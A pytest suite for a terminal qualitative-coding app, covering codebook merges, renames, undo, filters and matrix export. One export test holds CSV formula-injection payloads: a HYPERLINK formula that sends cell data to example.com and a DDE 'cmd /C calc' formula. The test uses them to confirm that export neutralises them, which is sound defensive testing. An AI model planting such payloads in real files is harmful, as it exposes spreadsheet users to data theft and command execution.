"""The codebook, analysis and filter screens, driven by keyboard."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from textual.pilot import Pilot
from textual.widgets import DataTable

from reader.annotations.stats import matrix_table
from reader.storage.database import Store
from reader.ui.app import ReaderApp
from reader.ui.screens.analysis_screen import AnalysisScreen
from reader.ui.screens.codebook_screen import CodebookScreen
from reader.ui.screens.search_screen import SearchScreen
from tests.helpers.paths import ICE
from tests.helpers.pilot import (
    SIZE,
    database,
    main,
    notified,
    press,
    region_words,
    resize,
    screen_text,
    settle,
    tag,
    type_text,
    view,
)
from tests.helpers.seeding import tag_quotes

SPELLINGS = [
    (ICE, "Their authority in Canada", "Doug King", ["public safety", "policing/oversight"]),
    (ICE, "Canada and Canadians must not", "Heather McPherson", ["sovereignty"]),
    (ICE, "Our collaboration benefits", "D. King", ["public safety"]),
    (
        "wikinews-warhol-university-exhibits.txt",
        "I think America",
        "Elaine Gustafon",
        ["celebrity"],
    ),
]


def _saved(library: Path) -> list[dict[str, object]]:
    return list(database(library / "reader.json")["annotations"].values())


def _row_of(screen: CodebookScreen, kind: str, name: str) -> int:
    return screen.rows.index((kind, name))


async def _open_codebook(pilot: Pilot[None]) -> tuple[CodebookScreen, DataTable[object]]:
    """`C` pressed: the codebook screen and its table."""
    await press(pilot, "C")
    screen = pilot.app.screen
    assert isinstance(screen, CodebookScreen)
    return screen, screen.query_one(DataTable)


async def _set_up(pilot: Pilot[None], *entries: tuple[str, str]) -> None:
    """On the codebook screen, add each (key, name): `a` a theme, `A` a source."""
    for key, name in entries:
        await press(pilot, key)
        await type_text(pilot, name)
        await press(pilot, "enter")
        await settle(pilot)


async def test_merge_two_spellings_then_undo(library: Path) -> None:
    tag_quotes(library, SPELLINGS)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        screen, table = await _open_codebook(pilot)
        assert "Doug King" in region_words(app, table) and "D. King" in region_words(app, table)
        table.move_cursor(row=_row_of(screen, "source", "D. King"))
        await press(pilot, "space")
        table.move_cursor(row=_row_of(screen, "source", "Doug King"))
        await press(pilot, "m")  # the marked one and the one under the cursor
        app.screen.query_one("#prompt-input").value = "Doug King"
        await press(pilot, "enter")
        await settle(pilot)
        assert "Merged 2 sources into “Doug King”: 1 annotation · u undoes it" in notified(app)
        sources = sorted(str(a["source"]) for a in _saved(library))
        assert sources.count("Doug King") == 2 and "D. King" not in sources
        assert ("source", "D. King") not in screen.rows
        await press(pilot, "u")
        sources = sorted(str(a["source"]) for a in _saved(library))
        assert "D. King" in sources
        await press(pilot, "G")
        assert table.cursor_row == len(screen.rows) - 1
        await press(pilot, "g")
        assert table.cursor_row == 0
        await press(pilot, "ctrl+r")  # and redo, here too
        await settle(pilot)
        assert "D. King" not in {str(a["source"]) for a in _saved(library)}
        assert "Redid" in notified(app)


async def test_the_codebook_and_the_analysis_count_one_in_the_singular(library: Path) -> None:
    tag_quotes(library, [(ICE, "Their authority in Canada", "Doug King", ["public safety"])])
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        await _open_codebook(pilot)
        shown = region_words(app, app.screen)
        assert "Codebook: 1 source, 1 theme" in shown, shown[:80]
        await press(pilot, "escape", "M")
        assert isinstance(app.screen, AnalysisScreen)
        shown = region_words(app, app.screen)
        assert "1 annotation · 1 source · 1 theme" in shown
        assert "1 themes" not in shown and "1 sources" not in shown


async def test_undoing_a_theme_merge_names_the_merge_not_a_quote(library: Path) -> None:
    tag_quotes(library, SPELLINGS)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        screen, table = await _open_codebook(pilot)
        table.move_cursor(row=_row_of(screen, "theme", "celebrity"))
        await press(pilot, "space")
        table.move_cursor(row=_row_of(screen, "theme", "sovereignty"))
        await press(pilot, "m")
        app.screen.query_one("#prompt-input").value = "politics"
        await press(pilot, "enter")
        await press(pilot, "escape")  # back in the article, where the user pressed u
        assert not isinstance(app.screen, CodebookScreen)
        await press(pilot, "u")
        said = notified(app)
        assert "Undid merge of themes celebrity and sovereignty into politics" in said
        assert "Undid rename" not in said and "I think America" not in said
        await press(pilot, "ctrl+r")
        assert "Redid merge of themes celebrity and sovereignty into politics" in notified(app)


async def test_merge_takes_only_the_marked_and_undo_keeps_descriptions_and_keys(
    library: Path,
) -> None:
    tag_quotes(library, SPELLINGS)
    store = Store(library / "reader.json")
    store.update_source("D. King", description="criminologist")
    store.set_theme_key("celebrity", 2)
    store.close()
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        screen, table = await _open_codebook(pilot)
        table.move_cursor(row=_row_of(screen, "source", "D. King"))
        await press(pilot, "space")
        table.move_cursor(row=_row_of(screen, "source", "Doug King"))
        await press(pilot, "space")  # two marked; the cursor moved on to a third name
        await press(pilot, "m")
        assert "Merge 2 sources" in region_words(app, app.screen)
        assert "Merging “D. King”, “Doug King”." in region_words(app, app.screen)
        app.screen.query_one("#prompt-input").value = "Doug King"
        await press(pilot, "enter")
        await settle(pilot)
        sources = sorted(str(a["source"]) for a in _saved(library))
        assert sources.count("Doug King") == 2 and "Elaine Gustafon" in sources
        assert "Heather McPherson" in sources
        await press(pilot, "u")
        await settle(pilot)
        entries = database(library / "reader.json")["sources"].values()
        assert {"name": "D. King", "description": "criminologist"} in list(entries)
        table.move_cursor(row=_row_of(screen, "theme", "celebrity"))
        await press(pilot, "r")
        app.screen.query_one("#prompt-input").value = "fame"
        await press(pilot, "enter")
        await settle(pilot)
        themes = list(database(library / "reader.json")["themes"].values())
        assert any(t["name"] == "fame" and t["key"] == 2 for t in themes)
        assert not any(t["name"] == "celebrity" for t in themes)


async def test_rename_describe_colour_and_delete(library: Path) -> None:
    tag_quotes(library, SPELLINGS)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        screen, table = await _open_codebook(pilot)
        table.move_cursor(row=_row_of(screen, "source", "Heather McPherson"))
        await press(pilot, "r")
        app.screen.query_one("#prompt-input").value = "Heather McPherson MP"
        await press(pilot, "enter")
        await settle(pilot)
        assert "Heather McPherson MP" in {a["source"] for a in _saved(library)}
        table.move_cursor(row=_row_of(screen, "source", "Heather McPherson MP"))
        await press(pilot, "e")
        await type_text(pilot, "NDP MP for Edmonton Strathcona")
        await press(pilot, "enter")
        await settle(pilot)
        sources = database(library / "reader.json")["sources"].values()
        assert {
            "name": "Heather McPherson MP",
            "description": "NDP MP for Edmonton Strathcona",
        } in list(sources)
        assert "NDP MP for Edmonton Strathcona" in region_words(app, table)
        await press(pilot, "escape")  # the description shows where the source does
        entries = [str(option.prompt) for option in main(app).notes.options]
        assert any("Heather McPherson MP · NDP MP for Edmonton" in entry for entry in entries)
        screen, table = await _open_codebook(pilot)
        table.move_cursor(row=_row_of(screen, "theme", "celebrity"))
        await press(pilot, "c")
        app.screen.query_one("#prompt-input").value = "teal"
        await press(pilot, "enter")
        await settle(pilot)
        themes = database(library / "reader.json")["themes"].values()
        assert any(t["name"] == "celebrity" and t["colour"] == "#008080" for t in themes)
        table.move_cursor(row=_row_of(screen, "theme", "public safety"))
        await press(pilot, "d")
        await press(pilot, "y")
        await settle(pilot)
        assert not any("public safety" in a["themes"] for a in _saved(library))  # type: ignore[operator]
        assert len(_saved(library)) == 4  # the quotes stay


async def test_analysis_cell_drills_to_quotes_and_the_article(library: Path) -> None:
    tag_quotes(library, SPELLINGS)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        await press(pilot, "M")
        screen = app.screen
        assert isinstance(screen, AnalysisScreen)
        await settle(pilot)
        assert screen.ready
        table = screen.query_one("#matrix-table", DataTable)
        shown = region_words(app, table)
        assert "public safety" in shown and "Doug King" in shown
        row = screen.grid.sources.index("Elaine Gustafon")
        column = screen.grid.themes.index("celebrity") + 1
        table.move_cursor(row=row, column=column)
        await press(pilot, "enter")
        search = app.screen
        assert isinstance(search, SearchScreen)
        assert search.last_query == 'source:="Elaine Gustafon" theme:=celebrity'
        await press(pilot, "enter")
        assert app.screen is main(app)
        document = view(app).document
        assert document is not None and "warhol" in document.record.path


async def test_filter_shows_only_a_themes_annotations_and_articles(library: Path) -> None:
    tag_quotes(library, SPELLINGS)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        await press(pilot, "F")
        await type_text(pilot, "theme:policing")
        await press(pilot, "enter")
        library_pane = region_words(app, main(app).query_one("#library-pane"))
        assert "Library (1)" in library_pane and "Warhol" not in library_pane
        notes = main(app).query_one("#notes-pane")
        assert "Annotations (1)" in region_words(app, notes)
        assert "only theme:policing" in region_words(app, notes)
        await press(pilot, "F")
        app.screen.query_one("#prompt-input").value = ""
        await press(pilot, "enter")
        assert "Library (4)" in region_words(app, main(app).query_one("#library-pane"))


async def test_a_filter_with_a_typo_shows_what_search_would(library: Path) -> None:
    # F with theme:polcing showed "none matching the filter" while search found them
    # (a newcomer's study week)
    tag_quotes(library, SPELLINGS)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        await press(pilot, "F")
        await type_text(pilot, "theme:polcing")
        await press(pilot, "enter")
        notes = main(app).query_one("#notes-pane")
        assert "Annotations (1)" in region_words(app, notes)
        assert "Library (1)" in region_words(app, main(app).query_one("#library-pane"))


async def test_a_filter_takes_the_beginning_of_a_word_and_says_what_it_counts(
    library: Path,
) -> None:
    """`theme:sover` kept nothing where search found it, the library then listed the open
    article as having "no annotations" beside a pane saying it had two, and the filter's
    example named the sample library's Doug King in every library (a newcomer's findings)."""
    tag_quotes(library, SPELLINGS)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        await press(pilot, "F")
        placeholder = app.screen.query_one("#prompt-input").placeholder
        assert placeholder == 'theme:"public safety"  source:"D. King"'  # (the most used)
        await type_text(pilot, "theme:sover")
        await press(pilot, "enter")
        notes = main(app).query_one("#notes-pane")
        assert "Annotations (1)" in region_words(app, notes)
        library_pane = region_words(app, main(app).query_one("#library-pane"))
        assert "1 matching the filter" in library_pane
        await press(pilot, "g", "n", "t")  # a tag the filter does not keep: not counted
        await tag(pilot, "Zed Newperson", "crime")
        library_pane = region_words(app, main(app).query_one("#library-pane"))
        assert "1 matching the filter" in library_pane and "5 matching" not in library_pane
        await press(pilot, "F")
        app.screen.query_one("#prompt-input").value = "theme:celeb"
        await press(pilot, "enter")
        library_pane = region_words(app, main(app).query_one("#library-pane"))
        assert "none matching the filter" in library_pane  # (the open article, listed)
        assert "1 matching the filter" in library_pane  # (Warhol's)
        assert "no annotations" not in library_pane


async def test_slash_finds_names_in_the_codebook_and_marks_stay_across_finds(
    library: Path,
) -> None:
    """At 846 sources a name was a hundred `j` away, and the themes after them all (a
    researcher's finding): `/` keeps the names holding the words typed."""
    tag_quotes(library, SPELLINGS)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        await press(pilot, "C", "slash")
        await type_text(pilot, "d king")  # (letters of the screen's keys: typed, not run)
        screen = app.screen
        found = [name for _, name in screen.rows]  # type: ignore[attr-defined]
        assert sorted(found) == ["D. King", "Doug King"]
        await press(pilot, "enter", "space")  # to the table; the first of them marked
        await press(pilot, "slash")
        screen.query_one("#codebook-find").value = ""
        await type_text(pilot, "gusta")
        assert [name for _, name in screen.rows] == ["Elaine Gustafon"]  # type: ignore[attr-defined]
        await press(pilot, "enter", "space")  # Elaine Gustafon marked too, under this find
        await press(pilot, "slash")
        screen.query_one("#codebook-find").value = ""
        await type_text(pilot, "d. king")  # (marks and dots typed as a name writes them)
        assert sorted(name for _, name in screen.rows) == ["D. King", "Doug King"]  # type: ignore[attr-defined]
        await press(pilot, "escape")  # every name again, the marks kept
        assert len(screen.rows) > 3  # type: ignore[attr-defined]
        assert ("source", found[0].casefold()) in screen.marked  # type: ignore[attr-defined]
        assert "found by" not in region_words(app, screen)
        await press(pilot, "slash")
        await type_text(pilot, "gusta")
        assert "2 marked, 1 not shown" in region_words(app, screen)
        await press(pilot, "enter", "m")  # the two marked merge, one of them out of sight
        asked = region_words(app, app.screen)
        assert "Merging “" in asked and "Elaine Gustafon" in asked
        assert "(1 not shown by this find)" in asked  # (a mark under an earlier find, said)
        await press(pilot, "escape")


async def test_a_merge_naming_long_sources_is_read_whole(library: Path) -> None:
    """The merge dialog's line was cut at the box's edge: "Merging “Civil Liberties
    Association”, “Nadia Fernandes” (1 not show" (a team newcomer's finding)."""
    from reader.ui.dialogs.prompt_dialog import PromptDialog

    label = (
        "Merging “Civil Liberties Association of the Northern Provinces”, “Nadia "
        "Fernandes-Whitfield” (1 not shown by this find).\nInto (one of them, or a new name):"
    )
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        app.push_screen(PromptDialog("Merge 2 sources", label, "Nadia"))
        await settle(pilot)
        words = region_words(app, app.screen)
        assert "(1 not shown by this find)." in words and "Into (one of them" in words


async def test_a_name_renamed_under_a_find_stays_in_sight(library: Path) -> None:
    """Renamed under `/ cycling` to a name the find does not hold, the row left the table;
    `e` then did nothing, and the description typed next ran as keys, its `u` undoing a
    merge (a newcomer's finding). The renamed row stays; a key on no row says so."""
    tag_quotes(library, SPELLINGS)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await settle(pilot)
        await press(pilot, "C", "slash")
        await type_text(pilot, "gusta")
        screen = app.screen
        await press(pilot, "enter", "r")
        app.screen.query_one("#prompt-input").value = "Elaine Gustafson"
        await press(pilot, "enter")
        await settle(pilot)
        assert [name for _, name in screen.rows] == ["Elaine Gustafson"]  # type: ignore[attr-defined]
        await press(pilot, "slash")
        screen.query_one("#codebook-find").value = ""
        await type_text(pilot, "zzz")
        await press(pilot, "enter", "e")
        assert "No name here found by this find" in notified(app)
        assert app.screen is screen  # (no dialog over nothing)


async def test_a_rename_into_a_name_the_codebook_holds_asks_to_merge(library: Path) -> None:
    """Renamed to an existing source's name, 461 quotes merged into its 304 without a
    word, and the notice gave the name as typed ("derek vasquez"; a power user's
    finding). It asks, as `m` does, and names the source as the codebook spells it."""
    from reader.ui.dialogs.prompt_dialog import ConfirmDialog

    tag_quotes(library, SPELLINGS)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await settle(pilot)
        screen, table = await _open_codebook(pilot)
        table.move_cursor(row=_row_of(screen, "source", "D. King"))
        await press(pilot, "r")
        app.screen.query_one("#prompt-input").value = "doug king"
        await press(pilot, "enter")
        assert isinstance(app.screen, ConfirmDialog)
        assert "“Doug King” is in the codebook" in region_words(app, app.screen)
        await press(pilot, "y")
        await settle(pilot)
        assert "Merged “D. King” into “Doug King”" in notified(app)
    kings = {a["source"] for a in _saved(library) if "King" in (a["source"] or "")}
    assert kings == {"Doug King"}


async def test_a_theme_cannot_be_renamed_under_itself(library: Path) -> None:
    """ "policing" renamed to its own "policing/oversight" made
    "policing/oversight/oversight", three levels where themes nest one (an attack's
    finding)."""
    tag_quotes(library, SPELLINGS)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await settle(pilot)
        screen, table = await _open_codebook(pilot)
        table.move_cursor(row=_row_of(screen, "theme", "public safety"))
        await press(pilot, "r")
        app.screen.query_one("#prompt-input").value = "public safety/roads"
        await press(pilot, "enter")
        await settle(pilot)
        assert "cannot go under itself" in notified(app)
    themes = {t for a in _saved(library) for t in a["themes"]}
    assert "public safety" in themes and "public safety/roads" not in themes


async def _matrix_written(library: Path, out: Path) -> tuple[Path, Any]:
    """Open the analysis screen (M) and write its matrix (e) into `out`, the working folder:
    the CSV file written, and the matrix that was on screen."""
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await settle(pilot)
        await press(pilot, "M")
        await settle(pilot)
        grid = app.screen.grid  # type: ignore[attr-defined]
        await press(pilot, "e")
        await settle(pilot)
        assert "Wrote reader-matrix-" in notified(app)
    (csv_file,) = out.glob("reader-matrix-*.csv")
    return csv_file, grid


async def test_e_writes_the_matrix_on_screen_as_csv_and_markdown(
    library: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tag_quotes(library, SPELLINGS)
    out = tmp_path / "out"
    out.mkdir()
    monkeypatch.chdir(out)
    csv_file, grid = await _matrix_written(library, out)
    rows = list(csv.reader(io.StringIO(csv_file.read_text(encoding="utf-8-sig"))))
    assert rows == [[str(v) for v in row] for row in matrix_table(grid)]
    markdown = csv_file.with_suffix(".md").read_text(encoding="utf-8").splitlines()
    assert len(markdown) == len(rows) + 1 and markdown[0].startswith("| source | ")


async def test_the_tables_written_as_csv_never_hold_a_formula(
    library: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A source or theme an import brought in may begin with a formula's sign: written with
    an apostrophe first, as `reader export -f csv` writes it."""
    source, theme = '=HYPERLINK("http://example.com/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0"
    tag_quotes(library, [(ICE, "Their authority in Canada", source, [theme])])
    out = tmp_path / "out"
    out.mkdir()
    monkeypatch.chdir(out)
    csv_file, _ = await _matrix_written(library, out)
    cells = [c for row in csv.reader(io.StringIO(csv_file.read_text("utf-8-sig"))) for c in row]
    # (names as the codebook keeps them: "//" is a theme path's separator, so one "/")
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    assert any(c.startswith("'@SUM(1+1)") for c in cells)
    assert not any(cell.startswith(("=", "@")) for cell in cells)


def test_a_matrix_cell_of_no_theme_or_no_source_lists_only_what_it_counts() -> None:
    from reader.annotations.stats import NO_SOURCE, NO_THEME
    from reader.ui.screens.analysis_screen import _query

    assert _query("ICE", NO_THEME) == 'source:=ICE theme:""'
    assert _query(NO_SOURCE, "policing") == 'source:"" theme:=policing'


async def test_undoing_a_rename_leaves_the_cursor_on_the_code_not_the_top(library: Path) -> None:
    tag_quotes(library, SPELLINGS)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        screen, table = await _open_codebook(pilot)
        row = _row_of(screen, "source", "Heather McPherson")
        assert row > 0
        table.move_cursor(row=row)
        await press(pilot, "r")
        app.screen.query_one("#prompt-input").value = "Heather McPhersonn"
        await press(pilot, "enter")
        await press(pilot, "u")  # the name it had again, and the cursor still on it
        assert screen.rows[table.cursor_row] == ("source", "Heather McPherson")


async def test_at_80_columns_a_cut_description_ends_in_an_ellipsis(library: Path) -> None:
    rows = [(*row[:2], f"{row[2]} Longsurname-Whitfield", row[3]) for row in SPELLINGS]
    tag_quotes(library, rows)
    store = Store(library / "reader.json")
    for row in rows:
        store.update_source(row[2], description="chief economist at the regional housing office")
    store.close()
    app = ReaderApp(library=library)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        await _open_codebook(pilot)
        lines = [line for line in screen_text(app).splitlines() if "chief" in line]
        assert len(lines) >= 4
        for line in lines[:4]:  # each row's description, cut where it ends on screen
            assert line.rstrip().endswith("…"), line


async def test_a_rename_says_whose_annotations_it_changed_in_a_team_s_database(
    library: Path,
) -> None:
    king = (ICE, "Their authority in Canada", "Doug King", ["public safety"])
    tag_quotes(library, [king], coder="alice")
    tag_quotes(library, [king], coder="bob")
    app = ReaderApp(library=library, coder="alice")
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        screen, table = await _open_codebook(pilot)
        table.move_cursor(row=_row_of(screen, "source", "Doug King"))
        await press(pilot, "r")
        app.screen.query_one("#prompt-input").value = "King, Doug"
        await press(pilot, "enter")
        await settle(pilot)
        assert "2 annotations (alice 1, bob 1) · u undoes it" in notified(app)


async def test_the_codebook_is_built_once_on_opening_and_again_for_a_new_width(
    library: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The resize every screen gets once mounted had built the table a second time: a
    # codebook of 50,000 themes (a crafted import can bring them) took twice 10 s to open.
    tag_quotes(library, SPELLINGS)
    widths: list[int] = []
    fill = CodebookScreen.fill

    def counted(screen: CodebookScreen) -> None:
        widths.append(screen.app.size.width)
        fill(screen)

    monkeypatch.setattr(CodebookScreen, "fill", counted)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        await _open_codebook(pilot)
        assert widths == [SIZE[0]]
        await resize(pilot, 80, 24)
        assert widths == [SIZE[0], 80]  # laid out again for the new width


async def test_keys_typed_right_after_slash_are_the_finds_never_the_codebooks(
    library: Path,
) -> None:
    """Typed at once after `/`, the first keys came through before the field had the
    focus: a digit would have put a theme on a quick key, `u` undone, `d` asked to delete
    (a newcomer saw "7prot" become "7pro")."""
    from textual.events import Key

    tag_quotes(library, SPELLINGS)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        await press(pilot, "C", "G")  # on a theme: a digit there is its quick key
        before = database(library / "reader.json")["themes"]
        for key, char in [("slash", "/"), ("7", "7"), ("d", "d"), ("u", "u"), ("c", "c")]:
            app.post_message(Key(key, char))  # all at once
        await settle(pilot)
        assert app.screen.query_one("#codebook-find").value == "7duc"
        assert database(library / "reader.json")["themes"] == before


async def test_a_codebook_is_set_up_before_any_tag(library: Path) -> None:
    # a study sets up its themes first; the codebook had no key to add one, and a theme
    # existed only once a passage was tagged with it (a newcomer's study week)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await settle(pilot)
        screen, _table = await _open_codebook(pilot)
        await _set_up(pilot, ("a", "affordability"), ("a", "rent control"), ("A", "Amélie Côté"))
        assert ("theme", "affordability") in screen.rows
        assert ("source", "Amélie Côté") in screen.rows
        assert "Added theme “rent control” on quick key 2" in notified(app)
        await press(pilot, "a")
        await type_text(pilot, "Affordability")
        await press(pilot, "enter")
        await settle(pilot)
        assert "already" in notified(app)
        await press(pilot, "u")  # the source added last is taken back
        await settle(pilot)
        assert ("source", "Amélie Côté") not in screen.rows
        await press(pilot, "escape")
        await press(pilot, "n", "2")  # the quick key codes with the theme set up
        await settle(pilot)
    saved = database(library / "reader.json")
    assert [a["themes"] for a in saved["annotations"].values()] == [["rent control"]]
    assert {t["name"] for t in saved["themes"].values()} == {"affordability", "rent control"}
    assert saved["sources"] == {}


async def test_what_the_codebook_set_up_is_offered_and_outlives_an_undone_tag(
    library: Path,
) -> None:
    # a theme and a source added with a and A were not offered by the tag dialog until a
    # quote used them (typing "homeles" made a second theme), and undoing the first tag
    # with them took them out of the codebook; "Amelie Cote" made a twin of "Amélie Côté"
    # (a newcomer checking the mend)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await settle(pilot)
        await _open_codebook(pilot)
        await _set_up(pilot, *(("a", "homelessness"), ("A", "Amélie Côté"), ("A", "Amelie Cote")))
        assert "The codebook has “Amélie Côté” already" in notified(app)
        await press(pilot, "escape", "n", "t")
        await type_text(pilot, "amelie")
        await press(pilot, "enter")
        await type_text(pilot, "homeles")
        await press(pilot, "enter", "enter")
        await settle(pilot)
        [saved] = database(library / "reader.json")["annotations"].values()
        assert (saved["source"], saved["themes"]) == ("Amélie Côté", ["homelessness"])
        await press(pilot, "u")  # the tag undone: what was set up stays
        await settle(pilot)
    store = Store(library / "reader.json")
    try:
        assert [s.name for s in store.sources()] == ["Amélie Côté"]
        assert [t.name for t in store.themes()] == ["homelessness"]
        assert store.annotations() == []
    finally:
        store.close()


async def test_a_theme_typed_without_its_apostrophe_is_refused_as_a_twin(
    library: Path,
) -> None:
    # "tenants rights" was let in beside "tenants’ rights": two codes for one theme, each
    # with half the quotes (stop 73's note)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await settle(pilot)
        screen, _table = await _open_codebook(pilot)
        await _set_up(pilot, *(("a", "tenants' rights"), ("a", "tenants rights")))
        assert "The codebook has “tenants' rights” already" in notified(app)
        assert [row for row in screen.rows if row[0] == "theme"] == [("theme", "tenants' rights")]


async def test_a_set_up_theme_renamed_is_offered_and_kept_under_its_new_name(
    library: Path,
) -> None:
    # the first form kept a list of what was set up, by name: a rename left the new name
    # unoffered, and the first tag with it, undone, took it out of the codebook (an attack)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await settle(pilot)
        screen, table = await _open_codebook(pilot)
        await _set_up(pilot, *(("a", "zoning"), ("a", "C++"), ("a", "C")))
        assert {("theme", "C++"), ("theme", "C")} <= set(screen.rows)  # not twins
        table.move_cursor(row=_row_of(screen, "theme", "zoning"))
        await press(pilot, "r", "ctrl+u")
        await type_text(pilot, "land use")
        await press(pilot, "enter")
        await settle(pilot)
        await press(pilot, "escape", "n", "t")
        await type_text(pilot, "Doug King")
        await press(pilot, "enter")
        await type_text(pilot, "land")
        await press(pilot, "enter")
        await type_text(pilot, "brand new")
        await press(pilot, "enter", "enter")
        await settle(pilot)
        [saved] = database(library / "reader.json")["annotations"].values()
        assert saved["themes"] == ["land use", "brand new"]
        await press(pilot, "u")
        await settle(pilot)
    store = Store(library / "reader.json")
    try:  # what the tag brought goes with it; what was set up stays, renamed
        assert {t.name for t in store.themes()} == {"land use", "C++", "C"}
    finally:
        store.close()


async def test_renaming_or_deleting_an_unused_name_is_a_step_of_its_own(library: Path) -> None:
    # a rename, merge or delete that changed no annotation was no step: `u` took back the
    # step before it (an addition), and the deleted name was gone for good; a rename to
    # "amelie cote" beside Amélie Côté made a twin `A` refuses (an attack on set-up codes)
    app = ReaderApp(library=library)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await settle(pilot)
        screen, table = await _open_codebook(pilot)
        await _set_up(pilot, *(("a", "tenants' rights"), ("A", "Doug King"), ("A", "Amélie Côté")))
        table.move_cursor(row=_row_of(screen, "source", "Doug King"))
        await press(pilot, "r", "ctrl+u")
        await type_text(pilot, "Doug Kingsley")
        await press(pilot, "enter")
        await settle(pilot)
        assert ("source", "Doug Kingsley") in screen.rows
        await press(pilot, "u")
        await settle(pilot)
        assert ("source", "Doug King") in screen.rows
        assert ("theme", "tenants' rights") in screen.rows  # the addition before stays
        table.move_cursor(row=_row_of(screen, "theme", "tenants' rights"))
        await press(pilot, "d", "y")
        await settle(pilot)
        assert ("theme", "tenants' rights") not in screen.rows
        await press(pilot, "u")
        await settle(pilot)
        assert ("theme", "tenants' rights") in screen.rows
        table.move_cursor(row=_row_of(screen, "source", "Doug King"))
        await press(pilot, "r", "ctrl+u")
        await type_text(pilot, "amelie cote")
        await press(pilot, "enter")
        await settle(pilot)
        assert "Merge into “Amélie Côté”" in screen_text(app)
